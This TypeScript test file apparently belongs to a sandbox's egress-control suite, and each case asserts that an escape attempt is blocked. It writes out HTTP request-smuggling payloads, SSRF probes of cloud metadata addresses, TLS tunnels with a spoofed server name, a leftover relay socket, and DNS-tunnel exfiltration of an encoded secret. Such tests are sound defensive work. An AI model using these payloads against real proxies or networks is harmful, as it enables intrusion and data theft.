import { assert } from "vitest"
import type { Attack, Battlefield, Contained } from "../Attack.ts"
import { crlf, DAEMON, onGround, sendRaw, statusOf, tally, type Ground } from "../egress-ground.ts"

/** Group 18, and of group 9 what concerns names and metadata: ways round the doors. */

const smuggled = "GET /smuggled HTTP/1.1\r\nHost: git.loom.internal\r\n\r\n"
const post = (...headers: ReadonlyArray<string>) => ["POST /x HTTP/1.1", "Host: git.loom.internal", ...headers]
const smuggling = [
  crlf(...post("Content-Length: 6", "Transfer-Encoding: chunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding: chunked", "Content-Length: 6")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Content-Length: 0", `Content-Length: ${smuggled.length}`)) + smuggled,
  crlf(...post("Content-Length: +5")) + `hello${smuggled}`,
  crlf(...post("Content-Length: 0x5")) + `hello${smuggled}`,
  crlf(...post("Transfer-Encoding: xchunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding: chunked, identity")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("Transfer-Encoding : chunked")) + `0\r\n\r\n${smuggled}`,
  crlf(...post("X-A: b\r\n Transfer-Encoding: chunked", "Content-Length : 5")) + `hello${smuggled}`,
  crlf(...post("X-A: b\u0000c")) + smuggled,
  crlf(...post("X-A: b\rX-B: c")) + smuggled,
  `POST /x HTTP/1.1\nHost: git.loom.internal\nContent-Length: 1\nTransfer-Encoding: chunked\n\n0\n\n${smuggled}`,
]

const within = (name: string, group: number, run: (ground: Ground, field: Battlefield) => Promise<Contained>): Attack => ({
  group,
  name,
  ...DAEMON,
  run: (field) => onGround(field, (ground) => run(ground, field)),
})

export const egressWaysRound: ReadonlyArray<Attack> = [
  within("requests smuggled behind two lengths, folds and bare line feeds", 18, async ({ session, upstream }) => {
    const statuses = (await sendRaw(session, 80, smuggling)).map(statusOf)
    // A first request that is whole may pass; what hides behind it may not, and nothing arrives without the capability.
    assert.notInclude(
      upstream.map(({ line }) => line),
      "GET /gateways/git/smuggled",
    )
    assert.isTrue(
      statuses.every((status) => status === "400" || status === "closed"),
      tally(statuses),
    )
    return { by: "strict HTTP parser", evidence: `${smuggling.length} requests: ${tally(statuses)}; the upstream heard ${upstream.length}` }
  }),
  within("a listed name that points at this machine", 18, async ({ session }, { canaries }) => {
    // `localhost` is the operator's without a port, and the repository's with the canary's port: neither may lead to loopback.
    const [bare, ofRepository] = await sendRaw(session, 3128, [
      crlf("CONNECT localhost:443 HTTP/1.1", "Host: localhost"),
      crlf(`CONNECT localhost:${canaries.port} HTTP/1.1`, "Host: localhost"),
    ])
    for (const answer of [bare, ofRepository]) assert.include(answer, "the name points at a loopback address")
    return { by: "address checked after resolution", evidence: "blocked host: localhost (the name points at a loopback address)" }
  }),
  within("a redirect of a gateway or registry to another host", 18, async ({ session, upstream }, { canaries }) => {
    const away = (to: string) => `curl -sS -L -m 5 --noproxy git.loom.internal 'http://git.loom.internal/away?to=${to}' 2>&1`
    const ran = await session.exec(
      [
        `export http_proxy=http://127.0.0.1:3128`,
        away(`http://127.0.0.1:${canaries.port}/`),
        away("http://169.254.169.254/latest/"),
        away("http://api.github.com/user"),
        `curl -sS -L -m 5 --noproxy '*' 'http://git.loom.internal/away?to=http://api.github.com/user' 2>&1`,
      ].join("; "),
      { gateways: true, network: "registries" },
    )
    assert.strictEqual(ran.out.match(/blocked host: /g)?.length, 3, ran.out)
    assert.match(ran.out, /Could not resolve host: api\.github\.com/)
    assert.notInclude(ran.out, "HOST REACHED")
    assert.lengthOf(upstream, 4)
    return { by: "every request judged anew", evidence: "3 × blocked host, 1 × no name resolved" }
  }),
  within("a tunnel to a listed host, and TLS inside it for another", 18, async ({ registry, registryPort, session }) => {
    const script = `const net = require("node:net"), tls = require("node:tls")
const ask = (servername) => new Promise((resolve) => {
  const socket = net.connect(3128, "127.0.0.1", () => socket.write("CONNECT localhost:${registryPort} HTTP/1.1\\r\\n\\r\\n"))
  socket.once("data", () => tls.connect({ socket, ...(servername && { servername }), rejectUnauthorized: false }).on("error", () => undefined).on("close", resolve))
  socket.on("error", () => undefined)
})
Promise.all([ask("evil.example"), ask("localhost.evil.example"), ask("")]).then(() => console.log("closed"))`
    const ran = await session.exec(["node", "-e", script], { network: "registries" })
    assert.strictEqual(ran.out, "closed\n")
    assert.strictEqual(registry(), "")
    const told = (await session.refusals()).filter(({ reason }) => reason === "another TLS server name")
    assert.strictEqual(told[0]?.count, 3)
    return { by: "server name of TLS", evidence: "3 tunnels closed before a byte reached the registry" }
  }),
  within("a test that phones the registry of the set-up", 18, async ({ registry, registryPort, session }) => {
    const phone = `curl -sS -m 5 --noproxy '' -x http://127.0.0.1:3128 http://localhost:${registryPort}/phone 2>&1; curl -sS -m 5 http://registry.example.org/ 2>&1; env | grep -ci proxy`
    const setup = await session.exec(`curl -sS -o /dev/null -w '%{http_code}' http://localhost:${registryPort}/pkg --noproxy ''`, {
      network: "registries",
    })
    assert.strictEqual(setup.out, "200")
    const before = registry()
    const tests = await session.exec(phone, { network: "tests" })
    assert.strictEqual(registry(), before)
    assert.match(tests.out, /blocked host: localhost:\d+ \(host is not listed\); allow with `network: \{ tests: /)
    assert.match(tests.out, /Could not resolve host: registry\.example\.org\n0\n$/)
    const told = (await session.refusals()).filter(({ phase }) => phase === "tests").map(({ host, via }) => `${via} ${host}`)
    assert.deepEqual(told, ["registry localhost", "dns registry.example.org"])
    return { by: "network of the tests", evidence: "the set-up got 200, the tests: blocked host (both by proxy and by name)" }
  }),
  within("a relay that the set-up leaves behind for the tests", 18, async ({ registry, registryPort, session }) => {
    const relay = `setsid nohup node -e 'require("node:net").createServer((c) => { const s = require("node:net").connect(3128, "127.0.0.1"); c.pipe(s).pipe(c); s.on("error", () => c.destroy()) }).listen("/tmp/relay.sock", () => console.log("up"))' </dev/null 2>/dev/null & sleep 1`
    const left = await session.exec(relay, { network: "registries" })
    assert.strictEqual(left.exit.code, 0)
    const used = await session.exec(
      `curl -sS -m 3 --unix-socket /tmp/relay.sock http://localhost:${registryPort}/relayed 2>&1; echo; ls /proc | grep -cE '^[0-9]+$'`,
      { network: "tests" },
    )
    assert.match(used.out, /Couldn't connect|Could not connect|Failed to connect|Connection refused/i)
    assert.notInclude(registry(), "relayed")
    return { by: "processes end with their exec", evidence: "the relay's socket is there, nobody listens" }
  }),
  within("metadata services and neighbours, without asking a door", 9, async ({ session }) => {
    const targets = [
      "http://169.254.169.254/latest/meta-data/",
      "http://[fd00:ec2::254]/",
      "http://100.100.100.200/",
      "http://1.1.1.1/",
      "http://10.0.0.1/",
      "http://172.17.0.1/",
    ]
    const script = targets.map((url) => `curl -s -g -m 2 --noproxy '*' -o /dev/null -w '%{http_code} ' ${url}`).join("; ")
    for (const network of [{}, { gateways: true }, { network: "registries" }, { network: "tests" }]) {
      const ran = await session.exec(`${script}; cat /proc/net/route | tail -n +2 | wc -l`, network)
      assert.strictEqual(ran.out, `${"000 ".repeat(targets.length)}0\n`, JSON.stringify(network))
    }
    return { by: "network namespace without routes", evidence: `${targets.length} addresses × 4 kinds of network: unreachable` }
  }),
  within("names: look-ups, tunnels in them, resolvers elsewhere, DNS over HTTPS", 9, async ({ session }) => {
    const secret = "736563726574".repeat(4)
    const script = `import dgram from "node:dgram"
import { promises as dns } from "node:dns"
const say = (name) => (e) => console.log(name, e.code ?? e)
const ask = (server) => { const r = new dns.Resolver({ timeout: 500, tries: 1 }); r.setServers([server]); return r.resolve("example.com").catch(say(server)) }
await dns.lookup("${secret}.tunnel.example.org").catch(say("lookup"))
await dns.resolveTxt("txt.tunnel.example.org").catch(say("txt"))
for (const server of ["8.8.8.8", "1.1.1.1:53", "169.254.169.253", "[2606:4700:4700::1111]:53"]) await ask(server)
await new Promise((done) => { const s = dgram.createSocket("udp4"); s.on("error", () => undefined); s.bind(() => { s.setBroadcast(true); s.send("x", 53, "255.255.255.255", (e) => (console.log("broadcast", e?.code), s.close(), done())) }) })`
    const ran = await session.exec(
      `node --input-type=module -e '${script.replaceAll("'", "'\\''")}'; for h in dns.google:443 1.1.1.1:443 cloudflare-dns.com:443; do curl -s -m 3 -o /dev/null -w '%{http_connect} ' --proxytunnel --noproxy '' -x http://127.0.0.1:3128 https://$h/dns-query?name=x; done`,
      {
        network: "registries",
      },
    )
    const lines = ran.out.split("\n")
    assert.match(lines[0] ?? "", /^lookup (EAI_AGAIN|ENOTFOUND)$/, ran.out + ran.err)
    assert.match(lines[1] ?? "", /^txt (EREFUSED|ESERVFAIL|ECONNREFUSED)$/)
    for (const line of lines.slice(2, 6)) assert.match(line, / (ECONNREFUSED|ETIMEOUT|ENETUNREACH)$/)
    assert.match(lines[6] ?? "", /^broadcast (ENETUNREACH|EACCES|EPERM)$/)
    assert.strictEqual(lines[7], "403 403 403 ")
    const told = (await session.refusals()).map(({ host, via }) => `${via} ${host}`)
    assert.include(told, `dns ${secret}.tunnel.example.org`)
    assert.include(told, "registry dns.google")
    return { by: "no name server inside", evidence: "look-up refused and told; 4 resolvers unreachable; 3 × 403 for DNS over HTTPS" }
  }),
]
